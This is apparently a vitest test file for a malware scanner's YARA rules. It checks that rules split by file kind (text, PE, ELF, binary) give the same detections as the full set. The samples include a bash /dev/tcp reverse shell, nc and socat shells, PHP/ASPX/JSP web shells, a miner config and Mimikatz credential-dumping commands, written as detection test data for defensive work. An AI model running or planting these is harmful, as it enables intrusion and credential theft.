// The shipped YARA rules by file kind (a speed measure): each kind's passes must give every rule the
// all-rules set gives on files of that kind, except the splits yara-rule-sets.ts justifies (web shells
// and UTF-16 strings in an ELF), and each rule must still fire on its real kind — an ELF built by gcc.
import { compile, type RuleMatch, type YaraX } from "@litko/yara-x";
import { describe, expect, it } from "vitest";
import { elfStringRanges } from "../../../shared/analysis/content/elf-analysis.js";
import { YaraEngine } from "../../../shared/analysis/content/yara-engine.js";
import {
  ruleBlocks,
  ruleSetPasses,
  SHORT_TEXT_BYTES,
  yaraFileKind,
} from "../../../shared/analysis/content/yara-rule-sets.js";
import { SHIPPED_YARA_RULES } from "../../../shared/analysis/content/yara-rules.js";
import { ELF_TRAITS, elfThreatBinaries } from "./support/elf-threats.js";

const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
const utf16 = (s: string) => Buffer.from(s, "utf16le");

/** Text that hits (or nearly hits) every shipped rule. */
const SAMPLES: string[] = [
  '{"donate-level": 1, "randomx": {}, "pools": [{"url": "stratum+tcp://127.0.0.1:3333"}]}',
  '{"donate-level": 1, "randomx": {}, "pools": [], "user-agent": "XMRig"}',
  "<?php system($_POST['c']); ?>",
  '<%@ Page Language="C#" %> Request.Form["c"] ProcessStartInfo("cmd.exe")',
  '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
  "#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n",
  "nc.traditional -e /bin/bash 127.0.0.1 4444",
  "socat tcp:127.0.0.1:4444 EXEC:'bash -li'",
  ...Object.values(ELF_TRAITS),
  'Invoke-Mimikatz -Command \'"privilege::debug" "sekurlsa::logonpasswords"\'\n',
  "MiniDumpWriteDump lsass.exe OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread",
];

/** The same sample as a file of each kind over 128 bytes. */
const AS_KIND = {
  // short text gets the text rules in one set (SHORT_TEXT_BYTES), longer text by passes
  text: (s: string) => Buffer.from(`${s}\n${" ".repeat(200)}`),
  longText: (s: string) => Buffer.from(`${s}\n${" ".repeat(SHORT_TEXT_BYTES + 100)}`),
  binary: (s: string) => Buffer.concat([Buffer.alloc(200), Buffer.from(s), utf16(s)]),
  pe: (s: string) => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200), Buffer.from(s), utf16(s)]),
  elf: (s: string) =>
    Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(200), Buffer.from(s)]),
};

const WEBSHELLS = new Set(["yara/webshell-php", "yara/webshell-aspx", "yara/webshell-jsp"]);
const all: YaraX = compile(SHIPPED_YARA_RULES);
const idOf = new Map(ruleBlocks(SHIPPED_YARA_RULES).map((b) => [b.name, /id = "([^"]+)"/.exec(b.text)![1]!]));
const allRuleIds = (content: Buffer): string[] =>
  [...new Set(all.scan(content).map((m: RuleMatch) => idOf.get(m.ruleIdentifier)!))].sort();
const engineIds = (engine: YaraEngine, content: Buffer) =>
  [...new Set(engine.scan(content).map((h) => h.rule))].sort();

describe("the shipped YARA rules by file kind", () => {
  const engine = new YaraEngine();

  it("tells the kinds apart by size and magic: tiny, PE, ELF, text (no NUL byte), other binary", () => {
    expect(yaraFileKind(Buffer.from(EICAR))).toBe("tiny");
    expect(yaraFileKind(AS_KIND.pe("x"))).toBe("pe");
    expect(yaraFileKind(AS_KIND.elf("x"))).toBe("elf");
    expect(yaraFileKind(AS_KIND.text("x"))).toBe("text");
    expect(yaraFileKind(AS_KIND.binary("x"))).toBe("binary");
    // a UTF-16 script has NUL bytes: it keeps the wide patterns
    expect(yaraFileKind(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16("x".repeat(100))]))).toBe("binary");
  });

  it("gives the all-rules set's hits on text (short and long), other binaries, PE files and tiny files", () => {
    let hits = 0;
    for (const kind of ["text", "longText", "binary", "pe"] as const)
      for (const sample of SAMPLES) {
        const content = AS_KIND[kind](sample);
        const expected = allRuleIds(content);
        hits += expected.length;
        expect([kind, sample, engineIds(engine, content)]).toEqual([kind, sample, expected]);
      }
    expect(engineIds(engine, Buffer.from(EICAR))).toEqual(["malware/eicar-test-file"]);
    // the comparison is between answers that do hit, every rule id among them
    expect(hits).toBeGreaterThanOrEqual(40);
  });

  it("gives an ELF the all-rules set's hits but the web shells' (an ELF is no page a web server interprets)", () => {
    let hits = 0;
    for (const sample of SAMPLES) {
      const content = AS_KIND.elf(sample);
      const expected = allRuleIds(content).filter((id) => !WEBSHELLS.has(id));
      hits += expected.length;
      expect([sample, engineIds(engine, content)]).toEqual([sample, expected]);
    }
    expect(hits).toBeGreaterThanOrEqual(10);
    // UTF-16 text in an ELF is not searched (Linux's wchar_t is 4 bytes); the same text in ASCII is
    const wide = utf16('"privilege::debug" "sekurlsa::logonpasswords"');
    expect(engineIds(engine, AS_KIND.elf(wide.toString("latin1")))).toEqual([]);
    expect(engineIds(engine, AS_KIND.binary(wide.toString("latin1")))).toEqual([
      "yara/windows-credential-dumping",
    ]);
  });

  it("finds every ELF trait in a real gcc-built executable, each pattern by name, and nothing in the near misses", async () => {
    const bin = await elfThreatBinaries();
    expect(yaraFileKind(bin.traits)).toBe("elf");
    const hits = engine.scan(bin.traits);
    expect(hits.map((h) => h.rule).sort()).toEqual([
      "yara/coin-miner",
      "yara/coin-miner",
      "yara/reverse-shell",
      "yara/reverse-shell",
      "yara/reverse-shell",
      "yara/reverse-shell",
      "yara/reverse-shell",
      "yara/windows-credential-dumping",
    ]);
    const patterns = new Set(hits.flatMap((h) => h.patterns.map((p) => p.split(" ")[0])));
    for (const name of [...Object.keys(ELF_TRAITS), "$xmrig2", "$xmrig3"]) expect(patterns).toContain(name);
    expect(engine.scan(bin.nearMisses)).toEqual([]);
  });

  it("reads an ELF's strings, not its code, and names each trait at its offset in the file", async () => {
    const bin = await elfThreatBinaries();
    const file = bin.traitsBigCode;
    const ranges = elfStringRanges(file);
    const kept = ranges.reduce((n, [a, b]) => n + b - a, 0);
    expect(file.length - kept).toBeGreaterThanOrEqual(32 * 1024);
    // the code section is skipped, the strings are not
    for (const trait of Object.values(ELF_TRAITS)) {
      const at = file.indexOf(trait, 0, "latin1");
      expect(ranges.some(([a, b]) => a <= at && at + trait.length <= b)).toBe(true);
    }
    const hits = engine.scan(file);
    expect(hits.map((h) => h.rule).sort()).toEqual(
      engine
        .scan(bin.traits)
        .map((h) => h.rule)
        .sort(),
    );
    // every offset is the file's own: inside the trait string the pattern matched
    const spans = Object.values(ELF_TRAITS).map((t) => {
      const at = file.indexOf(t, 0, "latin1");
      return [at, at + t.length] as const;
    });
    for (const pattern of hits.flatMap((h) => h.patterns)) {
      const offset = Number.parseInt(pattern.split(" at 0x")[1]!, 16);
      expect([pattern, spans.some(([a, b]) => a <= offset && offset < b)]).toEqual([pattern, true]);
    }
  });

  it("reads the whole of an ELF file without a readable section table", () => {
    const noSections = Buffer.concat([
      Buffer.from("\x7fELF\x02\x01\x01", "latin1"),
      Buffer.alloc(200),
      Buffer.from(ELF_TRAITS.$stratum),
    ]);
    expect(elfStringRanges(noSections)).toEqual([[0, noSections.length]]);
    expect(engineIds(engine, noSections)).toEqual(["yara/coin-miner"]);
    const bogus = Buffer.from(noSections);
    bogus.writeBigUInt64LE(BigInt(bogus.length - 8), 0x28); // a section table past the end
    bogus.writeUInt16LE(4, 0x3c);
    bogus.writeUInt16LE(64, 0x3a);
    expect(elfStringRanges(bogus)).toEqual([[0, bogus.length]]);
  });

  it("scans a rule it has not placed on every kind (slower, never a missed hit)", () => {
    const extra = `${SHIPPED_YARA_RULES}\nrule extra_rule {\n  meta:\n    id = "yara/extra"\n  strings:\n    $a = "zzqx-extra"\n  condition:\n    $a\n}\n`;
    const passes = ruleSetPasses(extra);
    for (const kind of ["tiny", "pe", "elf", "text", "binary"] as const)
      expect(passes[kind].some((p) => p.source.includes("rule extra_rule {") && !p.gate)).toBe(true);
    // every shipped rule is in at least one kind's passes
    const placed = Object.values(ruleSetPasses())
      .flat()
      .map((p) => p.source)
      .join("\n");
    for (const { name } of ruleBlocks(SHIPPED_YARA_RULES)) expect(placed).toContain(`rule ${name} {`);
  });

  it("gates a rule only while it is the text the gate was checked against", () => {
    const gated = (source: string) =>
      Object.values(ruleSetPasses(source))
        .flat()
        .filter((p) => p.gate !== undefined)
        .map((p) => ruleBlocks(p.source)[0]!.name);
    // pinned to the rules as shipped (update GATES' digests in yara-rule-sets.ts after checking a gate)
    expect(new Set(gated(SHIPPED_YARA_RULES))).toEqual(
      new Set(["coin_miner_xmrig_config", "webshell_aspx", "webshell_jsp"]),
    );
    const edited = SHIPPED_YARA_RULES.replace("request\\.getParameter\\(/", "request\\.getHeader\\(/");
    expect(edited).not.toBe(SHIPPED_YARA_RULES);
    expect(gated(edited)).not.toContain("webshell_jsp");
    // a gated rule still fires through its gate, and a file without the gate's strings skips it
    const jsp = '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>';
    expect(engineIds(engine, AS_KIND.text(jsp))).toEqual(["yara/webshell-jsp"]);
    expect(engineIds(engine, AS_KIND.text(jsp.replace("getParameter", "getHeader")))).toEqual([]);
  });

  it("names a user rule that shares a shipped rule's name and id as the user's", () => {
    const clash = {
      path: "team.yar",
      source: `rule webshell_php {\n  meta:\n    id = "yara/webshell-php"\n  strings:\n    $a = "PORTCULLIS-CANARY-7"\n  condition:\n    $a\n}\n`,
    };
    const withUser = new YaraEngine({ files: [clash] });
    expect(withUser.scan(AS_KIND.text("PORTCULLIS-CANARY-7")).map((h) => h.rule)).toEqual([
      "yara-user/webshell_php",
    ]);
  });
});
